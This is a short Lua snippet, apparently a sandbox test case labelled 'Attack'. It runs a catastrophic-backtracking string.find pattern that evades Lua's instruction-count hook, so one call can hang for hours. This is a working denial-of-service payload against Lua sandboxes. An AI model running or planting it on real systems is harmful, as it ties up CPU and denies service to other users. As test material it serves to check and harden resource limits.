-- Attack: Lua pattern matching runs in C without the count hook; a pattern
-- that backtracks over a long subject runs for hours in one call.
local subject = string.rep("a", 60000)
string.find(subject, string.rep("a*", 40) .. "b")
